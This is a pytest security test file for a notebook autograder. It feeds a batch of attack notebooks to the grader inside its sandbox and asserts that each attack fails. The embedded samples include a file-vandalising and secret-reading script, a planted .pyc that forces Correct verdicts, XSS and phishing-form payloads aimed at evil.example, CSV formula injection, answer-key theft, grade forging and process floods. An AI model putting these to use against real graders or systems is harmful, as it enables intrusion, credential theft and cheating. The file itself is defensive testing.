"""Attacks from a student who has read the grader's source (issue 11), in ONE batch beside honest
neighbours, against the real sandbox: each one must fail without harming anyone.

Every test asserts one of: the batch completes with a row for every entry; the honest neighbours
keep their exact scores and untouched files; the attackers earn nothing they did not do; the
instructor's files are unchanged (submissions, release, package files hash the same before and
after) and the instructor's outputs (feedback pages, grades.csv, the terminal summary) are inert.
"""
from __future__ import annotations

import csv
import functools
import glob
import hashlib
import json
import os
import re
import stat
import subprocess
import tempfile
from pathlib import Path

import nbformat
import pytest

from grader.reports import grades_csv
from grader.course_release import release
from grader.pipeline import autograde, signing
from grader.sandbox import bwrap
from grader.options import GradingOptions
from grader.course_release.release import SOURCE_DIR
from grader.course_release.samples import answered, insert_after

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(bwrap.executable() is None, reason="bubblewrap is not installed")]
os.environ.setdefault("COURSE_GRADER_STATE", os.path.join(tempfile.gettempdir(), "course-grader-test-state"))

OPTIONS = {"cell_timeout": 60, "notebook_timeout": 300, "memory_mb": 3000, "max_cell_output_bytes": 2**20}
Q1, Q2, Q3, Q4 = (f"lesson1_q{k}_answer" for k in range(1, 5))
SECRET = "AKIA-course-grader-test-secret-4f1d"      # in the coordinator's environment during the batch
ESCAPEE = "course-grader-attack-escapee"
LITTER = "grader-attack-litter"
REPO = Path(release.__file__).resolve().parents[2]
HONEST = {"zz_honest_full": None, "zz \"o'brien\" <b>&amp;": (Q1, Q2)}   # all answered; q1, q2 (odd name)
# What the vandal writes to, and the folders where a planted .pyc would land: hashed before and after.
TARGETS = [REPO / "course_utils" / "__init__.py", REPO / "course_utils" / "lessons" / "lesson1.py",
           REPO / "grader" / "pipeline" / "grade_one.py", Path(json.__file__), Path(nbformat.__file__)]
PACKAGE_FILES = [*TARGETS, *sorted((REPO / "grader").rglob("*.py")), REPO / "course_utils" / "lessons" / "__pycache__"]

VANDAL = '''\
import hashlib, json, os, subprocess, sys
T = json.loads({targets!r})
breach, held = "BRE" + "ACH", "HE" + "LD"   # so that only outputs, not this source, show the words

def attempt(label, action):
    try:
        action()
        print(breach, label)
    except Exception as error:
        print(held, label, type(error).__name__)

def write(path, text="{{}}", mode="w"):
    with open(path, mode) as f:
        f.write(text)

def read(path):
    with open(path, "rb") as f:
        if not f.read(100):
            raise OSError("empty")

def listing(path):
    if not os.listdir(path):
        raise OSError("empty")

def plant_pyc():  # a .pyc whose header matches the .py: the judge of lesson 1 says Correct to all
    import importlib._bootstrap_external as bootstrap, importlib.util
    source, info = T["lesson_py"], os.stat(T["lesson_py"])
    code = compile(open(source).read() + "\\nfor _q in (q1, q2, q3, q4):\\n    _q.judge_recorded = "
                   "lambda payload, _q=_q: __import__('course_utils.checking').checking.Verdict("
                   "'Correct', '', 1.0, 1.0)\\n", source, "exec")
    path = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    write(path, bootstrap._code_to_timestamp_pyc(code, info.st_mtime, info.st_size), "wb")

for path in T["neighbours"]:
    attempt("overwrite neighbour " + path, lambda path=path: write(path))
    attempt("read neighbour " + path, lambda path=path: read(path))
attempt("edit release", lambda: write(T["out"] + "/release/lesson1.ipynb", "\\n", "a"))
attempt("block grades.csv", lambda: os.makedirs(T["out"] + "/grades.csv/x"))
attempt("block neighbour feedback", lambda: os.makedirs(T["neighbour_feedback"]))
attempt("forge a result", lambda: (os.makedirs(T["out"] + "/results/vandal", exist_ok=True),
                                   write(T["out"] + "/results/vandal/lesson3.json", "{{}}")))
for path in T["package_files"]:
    attempt("append to " + path, lambda path=path: write(path, "\\nimport os\\n", "a"))
attempt("plant pyc", plant_pyc)
for path in T["secrets"]:
    attempt("read " + path, lambda path=path: read(path))
for path in T["folders"]:
    attempt("list " + path, lambda path=path: listing(path))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if b"pytest" in open(f"/proc/{{pid}}/cmdline", "rb").read():
            print(breach, "sees the grader's process", pid)
    except OSError:
        pass
print(sorted(os.environ.items()))
for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{{os.getppid()}}/environ"]:
    try:
        print(open(path, "rb").read()[:2000])
    except OSError:
        pass
for folder in ["/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/"]:
    for k in range(200):
        try:
            write(os.path.join(folder, "{litter}-%d" % k))
        except OSError:
            break
write("resource.py", "raise SystemExit('planted module imported')")
write("/tmp/resource.py", "raise SystemExit('planted module imported')")
subprocess.Popen(["setsid", "nohup", sys.executable, "-c",
                  "import time, os\\ntime.sleep(200)  # {escapee}\\nopen(%r, 'w').write('0')" % (T["out"] + "/grades.csv")],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

HTML_ATTACK = '''\
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>document.title='pwned'</script><form action='https://evil.example/'>"
             "<input name=password type=password></form><img src=x onerror=alert(1)>"))
display(Javascript("alert(2)"))
display({"image/svg+xml": "<svg onload=alert(3)><script>alert(4)</script></svg>", "text/plain": "svg"}, raw=True)
display({"image/png": "PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==", "text/plain": "<script>alert(6)</script>"}, raw=True)
display(Markdown('<iframe src="https://evil.example/"></iframe><a href="javascript:alert(7)">x</a>'))
print("<script>alert(8)</script>")
handle = display("progress", display_id=True)
for _ in range(40):                      # 80 MB of display updates
    handle.update("u" * 2_000_000)
try:
    from comm import create_comm
    widget = create_comm(target_name="jupyter.widget", data={"state": {"v": "w" * 1_000_000}, "buffer_paths": []})
    for _ in range(30):                  # 60 MB of widget state
        widget.send({"method": "update", "state": {"v": "w" * 2_000_000}, "buffer_paths": []})
except Exception as error:
    print("no comm", error)
'''

MARKDOWN_ATTACK = ("<script>alert(9)</script>\n<form action='https://evil.example/'><input type=password></form>\n"
                   "<img src=x onerror=alert(10)> <a href=\"javascript:alert(11)\">click</a>")

ANSWER_FLOOD = '''\
from IPython.display import display
for _ in range(8):                       # 80 MB of forged answer records
    display({"application/vnd.course.answer+json": {"problem": "lesson1.q1", "payload": {"v": "x" * 10_000_000}}},
            raw=True)
'''

THREADS = ("import threading, time\nstop = threading.Event()\n"
           "for _ in range(600):\n    threading.Thread(target=stop.wait, daemon=True).start()\ntime.sleep(60)")
ZOMBIES = "import os, time\nfor _ in range(600):\n    if os.fork() == 0:\n        os._exit(0)\ntime.sleep(60)"

# The answer key and the hidden tests, taken from the checker in the kernel: in the grading kernel
# the course has neither (grader.sandbox.kernel_package), so q1 earns nothing, and what q2's function saw of
# its hidden inputs is withheld from the feedback page (the test cell's own output and a later print);
# what it prints inside the test cell, 50 MB of it, loses no answer.
KEY_THIEF = """\
import course_utils.lessons.lesson1 as L
from course_utils.checking.problem import Problem
print("LEAKED", {n: getattr(p, "hidden_probes", None) for n, p in vars(L).items() if isinstance(p, Problem)})
try:
    vocab_size = q1.expected()
except Exception as error:
    print("NO KEY", type(error).__name__)
"""
SPY = """
import os
SEEN = []
_honest = subword_tokens
def subword_tokens(text):
    SEEN.append(text)
    print("SPY", text)
    print("x" * 50_000_000)             # a flood inside the test cell: the answer still counts
    os.write(1, b"y" * 5_000_000)       # below Python's streams too
    return _honest(text)
"""
# Replaces q2's grade with one that records an answer the notebook never gave (its answer cell is
# blank): the genuine checker runs, on a namespace of the forger's making. Read by the grader.
FORGER = """
SOLUTION
_genuine = q2.grade
def _forged(namespace=None, nonce=None, hidden=None):
    namespace = dict(get_ipython().user_ns, subword_tokens=_answer)
    return _genuine(namespace, nonce=nonce, hidden=hidden)
q2.grade = _forged
"""


def forger(lesson1, hidden_in_a_string=False):
    """The forger; ``hidden_in_a_string``: its code run by ``exec`` from a string, which no reading
    of the text can follow (the known limit): the grader notes the cell for review."""
    solved = answered(lesson1, "lesson1", which=(Q2,))
    solution = next(c.source for c in solved.cells if c.metadata.get("nbgrader", {}).get("grade_id") == Q2)
    forged = FORGER.replace("SOLUTION", solution.replace("subword_tokens", "_answer"))
    forged = f"exec({forged!r})" if hidden_in_a_string else forged
    return insert_after(answered(lesson1, "lesson1", which=()), Q2, forged)


# Issue 31: evidence from what ran. A profile hook set before the test cells (by the name ``from
# sys import`` binds), a trace hook set and cleared inside the student's own function while its
# answer is collected (only the kernel's audit hook sees that one), and the checker's watch
# disarmed on lines that are all ``%time`` magics (IPython runs the statement after it).
PROFILE_HOOK = "from sys import setprofile\nsetprofile(lambda frame, event, arg: None)"
TRACE_INSIDE = """\
import sys as _s
_honest = subword_tokens
def subword_tokens(text):
    _s.settrace(lambda frame, event, arg: None)
    _s.settrace(None)
    return _honest(text)
"""
MAGIC_DISARM = ("%time from course_utils.checking import borrowed\n"
                "%time borrowed.watching = lambda names: __import__('contextlib').nullcontext([])")
HOSTILE_NAMES = ['=HYPERLINK("evil.example","click")', "jo smith", "jo_smith", "\ufb01ona", "fiona",
                 "evil\n\n<img src=x onerror=alert(12)>", "\x1b[2J\x1b[Hwiped", "+plus", "-minus", "@at"]


def points(*answers) -> float:
    """What the release's test cells for these answer cells are worth (lessons gain exercises)."""
    tests = {a.replace("_answer", "") for a in answers}
    return sum(float(c.metadata["nbgrader"].get("points", 0)) for c in lesson1_release().cells
               if c.metadata.get("nbgrader", {}).get("grade_id") in tests)


@functools.lru_cache(maxsize=None)
def lesson1_release():
    return release.generate(["lesson1"])["lesson1"]


def digest_tree(paths) -> dict:
    out = {}
    for path in paths:
        path = Path(path)
        if path.name == "__pycache__":  # where a planted .pyc would land (the judge never reads it)
            out[str(path)] = sorted(os.listdir(path)) if path.is_dir() else "absent"
            continue
        files = [path] if not path.is_dir() else [p for p in sorted(path.rglob("*"))
                                                  if "__pycache__" not in p.parts]
        for f in files:
            info = os.lstat(f)
            if stat.S_ISREG(info.st_mode):
                out[str(f)] = hashlib.sha256(f.read_bytes()).hexdigest()
            elif stat.S_ISLNK(info.st_mode):
                out[str(f)] = "link:" + os.readlink(f)
    return out


def build(submissions: Path, out: Path):
    lesson1 = lesson1_release()
    notebooks = {name: answered(lesson1, "lesson1", which=which) for name, which in HONEST.items()}
    targets = {
        "neighbours": [str(submissions / name / "lesson1.ipynb") for name in HONEST],
        "neighbour_feedback": str(out / "feedback" / "zz_honest_full" / "lesson1.html"),
        "out": str(out), "lesson_py": str(REPO / "course_utils" / "lessons" / "lesson1.py"),
        "package_files": [str(path) for path in TARGETS],
        "secrets": [str(SOURCE_DIR / "lesson1" / "lesson1.ipynb"), str(signing.state_dir() / signing.KEY_FILE),
                    "/etc/shadow", str(out / "release" / "lesson1.ipynb"),
                    str(REPO / "pyproject.toml")],   # the checkout is hidden, but for course_utils
        "folders": [str(submissions), str(out), str(SOURCE_DIR), os.path.expanduser("~/.ssh")],
    }
    notebooks["vandal"] = insert_after(answered(lesson1, "lesson1", which=(), replace={
        Q1: VANDAL.format(targets=json.dumps(targets), litter=LITTER, escapee=ESCAPEE)}), "lesson1_q4",
        "for k in range(200_000):   # empty files: kernel memory, not bytes\n    open(f'/tmp/f{k}', 'w').close()")
    html = answered(lesson1, "lesson1", which=(Q4,), replace={Q1: HTML_ATTACK})
    html.cells.insert(1, nbformat.v4.new_markdown_cell(MARKDOWN_ATTACK))
    notebooks["html_attack"] = insert_after(html, Q2, "raise ValueError('<img src=x onerror=alert(13)>')")
    thief = answered(lesson1, "lesson1", which=(Q2,), replace={Q1: KEY_THIEF})
    thief = insert_after(thief, Q2, SPY.strip())   # the honest answer, watched
    notebooks["key_thief"] = insert_after(thief, "lesson1_q2", "print('LATER', SEEN)")
    notebooks["forger"] = forger(lesson1)
    notebooks["exec_forger"] = forger(lesson1, hidden_in_a_string=True)
    notebooks["profile_hook"] = insert_after(answered(lesson1, "lesson1"), "lesson1_q1", PROFILE_HOOK)
    notebooks["trace_inside"] = insert_after(answered(lesson1, "lesson1"), Q2, TRACE_INSIDE)
    notebooks["magic_disarm"] = insert_after(answered(lesson1, "lesson1"), "lesson1_q1", MAGIC_DISARM)
    notebooks["answer_flood"] = answered(lesson1, "lesson1", which=(Q2,), replace={Q1: ANSWER_FLOOD})
    notebooks["thread_flood"] = answered(lesson1, "lesson1", which=(Q1, Q2), replace={Q3: THREADS})
    notebooks["zombie_flood"] = answered(lesson1, "lesson1", which=(Q1, Q2), replace={Q3: ZOMBIES})
    for name in HOSTILE_NAMES:
        notebooks[name] = answered(lesson1, "lesson1")
    for name, nb in notebooks.items():
        (submissions / name).mkdir(parents=True)
        (submissions / name / "lesson1.ipynb").write_text(release.dumps(nb))
    big = {"cells": [{"cell_type": "raw", "source": "", "metadata": {}}] * 100_000, "metadata": {},
           "nbformat": 4, "nbformat_minor": 5}
    files = {"many_cells": json.dumps(big), "deep_json": "[" * 200_000 + "]" * 200_000}
    for name, text in files.items():
        (submissions / name).mkdir()
        (submissions / name / "lesson1.ipynb").write_text(text)
    source_nb = SOURCE_DIR / "lesson1" / "lesson1.ipynb"
    os.symlink(source_nb.parent, submissions / "linked_to_source")
    for name, target in {"sneaky": source_nb, "dangling": "/nonexistent/lesson1.ipynb"}.items():
        (submissions / name).mkdir()
        os.symlink(target, submissions / name / "lesson1.ipynb")
    (submissions / "fifo").mkdir()
    os.mkfifo(submissions / "fifo" / "lesson1.ipynb")
    (submissions / "folder_nb" / "lesson1.ipynb").mkdir(parents=True)
    os.mkfifo(submissions / "pipe_at_top")


@pytest.fixture(scope="module", params=["fork", "fresh", "dask-fork"])
def attacked(tmp_path_factory, request):
    """The whole batch: on the local pool with kernels forked from the warm template, with fresh
    kernels, and on a Dask LocalCluster (scheduler and two worker processes over TCP) with forks."""
    engine, _, kernel = request.param.rpartition("-")
    if engine == "dask":
        pytest.importorskip("distributed")
    options = {**OPTIONS, "kernel": kernel}
    root = tmp_path_factory.mktemp(f"attacks-{request.param}")
    submissions, out = root / "submissions", root / "out"
    build(submissions, out)
    before = {"submissions": digest_tree([submissions]), "package": digest_tree(PACKAGE_FILES)}
    os.environ["AWS_SECRET_ACCESS_KEY"] = SECRET
    try:
        if engine == "dask":
            from grader.pipeline import cluster

            with cluster.dask_executor(local_workers=2) as executor:
                report = autograde.autograde(submissions, out, options=options, progress=False, executor=executor)
        else:
            report = autograde.autograde(submissions, out, workers=2, options=options, progress=False)
    finally:
        del os.environ["AWS_SECRET_ACCESS_KEY"]
    rows = {(r["student_id"], r["notebook"]): r for r in report.table()}
    return {"rows": rows, "report": report, "out": out, "submissions": submissions, "before": before,
            "options": options}


def feedback(out: Path, name: str) -> str:
    return (out / "feedback" / name / "lesson1.html").read_text(encoding="utf-8")


def test_the_batch_completes_with_a_row_for_every_entry(attacked):
    rows, submissions = attacked["rows"], attacked["submissions"]
    students = {student for student, _ in rows}
    from grader.pipeline import student_ids

    for entry in os.listdir(submissions):
        assert student_ids.display(entry) in students, entry
    assert all(r["status"] != "error" for r in rows.values()), [r for r in rows.values() if r["status"] == "error"]


def test_honest_neighbours_keep_exact_scores(attacked):
    rows = attacked["rows"]
    for name, which in HONEST.items():
        row = rows[(name, "lesson1")]
        assert row["status"] == "graded" and row["score"] == (row["max_score"] if which is None else points(*which))


def test_attackers_earn_nothing_they_did_not_do(attacked):
    rows = attacked["rows"]
    vandal = rows[("vandal", "lesson1")]
    assert vandal["status"] == "crash" and "files" in vandal["reason"] and vandal["score"] == 0
    assert rows[("html_attack", "lesson1")]["score"] == points(Q4)    # its honest q4
    assert rows[("answer_flood", "lesson1")]["score"] == points(Q2)   # its honest q2, not the forged records
    assert rows[("forger", "lesson1")]["score"] == 0                   # its q2.grade replaced: read, refused
    assert "changes how it is graded" in feedback(attacked["out"], "forger") and "q2.grade" in feedback(
        attacked["out"], "forger")
    assert "changes how it is graded: cell" in rows[("forger", "lesson1")]["reason"]
    # The same code run from a string: not in the text, so not refused; noted for the instructor.
    assert "for review: cell" in rows[("exec_forger", "lesson1")]["reason"] and \
        "`exec()`" in rows[("exec_forger", "lesson1")]["reason"]
    # Issue 31: points taken on what ran around collect, with the reason.
    hooked = rows[("profile_hook", "lesson1")]
    assert hooked["score"] == points(Q1) and "profile function" in hooked["reason"], hooked
    assert "lesson1_q2 earns nothing" in hooked["reason"]
    traced = rows[("trace_inside", "lesson1")]
    assert traced["score"] == traced["max_score"] - points(Q2) and "`sys.settrace` was called" in traced["reason"], traced
    disarmed = rows[("magic_disarm", "lesson1")]
    assert disarmed["score"] == 0 and "borrowed.watching" in disarmed["reason"], disarmed
    for name in ["thread_flood", "zombie_flood"]:
        assert rows[(name, "lesson1")]["status"] == "crash" and rows[(name, "lesson1")]["score"] == points(Q1, Q2)
        assert "processes or threads" in rows[(name, "lesson1")]["reason"]
    for name in ["many_cells", "deep_json", "sneaky", "dangling", "fifo", "folder_nb"]:
        assert rows[(name, "lesson1")]["status"] == "invalid" and rows[(name, "lesson1")]["score"] == 0
    assert "1000 cells" in rows[("many_cells", "lesson1")]["reason"]
    refused = {student for (student, notebook), r in rows.items() if notebook == "*"}
    assert {"linked_to_source", "pipe_at_top", "jo smith", "jo_smith", "\ufb01ona", "fiona", "+plus"} <= refused
    assert all(rows[(s, "*")]["status"] == "invalid" and rows[(s, "*")]["score"] == 0 for s in refused)
    assert "cannot be told apart" in rows[("jo smith", "*")]["reason"]


def test_the_kernel_holds_no_answer_key_and_the_page_shows_no_hidden_input(attacked):
    from course_utils.checking.registry import get_problem

    row = attacked["rows"][("key_thief", "lesson1")]
    assert row["status"] == "graded" and row["score"] == points(Q2), row   # q2 honest, q1 from the key: 0
    page = feedback(attacked["out"], "key_thief")
    assert "NO KEY AnswerKeyAbsent" in page and "LEAKED {&#x27;q1&#x27;: None, &#x27;q2&#x27;: [], &#x27;q3&#x27;: []" in page
    assert "output withheld" in page
    for secret in get_problem("lesson1.q2").hidden_probes:
        assert secret not in page, secret


def test_files_are_untouched(attacked):
    before, submissions, out = attacked["before"], attacked["submissions"], attacked["out"]
    assert digest_tree([submissions]) == before["submissions"]
    assert digest_tree(PACKAGE_FILES) == before["package"]
    assert (out / "release" / "lesson1.ipynb").read_text() == nbformat.writes(release.generate(["lesson1"])["lesson1"])
    assert not (out / "results" / "vandal" / "lesson3.json").exists()
    assert (out / "grades.csv").is_file()


def test_the_kernel_could_neither_write_nor_read_what_it_must_not(attacked):
    text = feedback(attacked["out"], "vandal")
    assert "BREACH" not in text, [line for line in text.splitlines() if "BREACH" in line]
    assert text.count("HELD") >= 20                                  # the attempts did run
    assert SECRET not in text


def test_nothing_outlives_the_kernel(attacked):
    left = subprocess.run(["pgrep", "-f", ESCAPEE], capture_output=True, text=True).stdout.split()
    assert left == []
    litter = [p for folder in ["/tmp", "/var/tmp", "/dev/shm", "/", str(REPO)]
              for p in glob.glob(os.path.join(folder, LITTER + "*"))]
    assert litter == []
    assert not (REPO / "resource.py").exists()


def test_feedback_pages_are_inert(attacked):
    out = attacked["out"]
    pages = sorted((out / "feedback").rglob("*.html"))
    assert len(pages) >= len(HONEST) + 5
    for page in pages:
        text = page.read_text(encoding="utf-8").lower()
        assert "content-security-policy" in text and "default-src 'none'" in text
        for tag in ["<script", "<form", "<iframe", "<svg", "<object", "<embed", "<input", "<link", "<base"]:
            assert tag not in text, (page, tag)
        assert not re.search(r"<[^>]*\son\w+\s*=", text), page                        # no event handlers
        # no loads: only pictures inlined as data, and links to a place in the page itself
        assert not re.search(r"<[^>]*\s(src|action)\s*=\s*(?![\"']?data:)", text), page
        assert not re.search(r"<[^>]*\shref\s*=\s*(?![\"']?#)", text), page
    html_page = feedback(out, "html_attack")
    assert "&lt;script&gt;" in html_page                             # shown as text, not run
    assert len(html_page) < 2 * 2**20 and len(feedback(out, "answer_flood")) < 2 * 2**20
    odd = next(p for p in pages if "brien" in str(p)).read_text()
    assert "&lt;b&gt;" in odd and "<b>&amp;" not in odd


def test_grades_csv_and_summary_are_inert(attacked):
    out, report = attacked["out"], attacked["report"]
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        lines = list(csv.reader(f))
    assert len(lines) == len(attacked["rows"]) + 1                   # no forged rows
    for line in lines[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@")), line
            assert not any(ord(c) < 32 or c == "\x7f" for c in cell), line
    assert any(line[0] == "'=HYPERLINK(\"evil.example\",\"click\")" for line in lines)
    summary = grades_csv.summary_table(report.rows)
    assert not any(ord(c) < 32 and c != "\n" for c in summary)


# What is tested is the coordinator's (it verifies each saved result's signature before reusing it),
# the same whichever engine graded the batch: once, on the fork batch, not twice more (CI time).
@pytest.mark.parametrize("attacked", ["fork"], indirect=True)
def test_forged_or_edited_results_are_graded_again(attacked):
    out, submissions = attacked["out"], attacked["submissions"]
    # An honest result edited in OUT (its signature no longer matches) ...
    path = out / "results" / "zz_honest_full" / "lesson1.json"
    saved = json.loads(path.read_text())
    saved["result"]["row"]["score"] = 0.0
    path.write_text(json.dumps(saved))
    # ... and a full-score result forged, with the right cache key, for a lesson not yet submitted.
    lesson3 = release.generate(["lesson3"])["lesson3"]
    (submissions / "vandal" / "lesson3.ipynb").write_text(release.dumps(lesson3))
    options = GradingOptions.from_dict(attacked["options"]).to_dict()
    digest = hashlib.sha256((submissions / "vandal" / "lesson3.ipynb").read_bytes()).hexdigest()
    key = hashlib.sha256((digest + autograde.fingerprint("lesson3", nbformat.writes(lesson3), options)).encode()).hexdigest()
    forged = {"row": {"student_id": "vandal", "notebook": "lesson3", "score": 3.0, "max_score": 3.0,
                      "status": "graded", "reason": ""}, "problems": []}
    (out / "results" / "vandal").mkdir(exist_ok=True)
    (out / "results" / "vandal" / "lesson3.json").write_text(json.dumps({"key": key, "signature": "0" * 64,
                                                                         "result": forged}))
    again = autograde.autograde(submissions, out, workers=2, options=attacked["options"], progress=False)
    rows = {(r["student_id"], r["notebook"]): r for r in again.table()}
    assert again.graded_now >= 2    # 2 unless the package changed meanwhile (a shared checkout)
    assert rows[("zz_honest_full", "lesson1")]["score"] == rows[("zz_honest_full", "lesson1")]["max_score"]
    assert rows[("vandal", "lesson3")]["score"] == 0 and rows[("vandal", "lesson3")]["status"] == "graded"
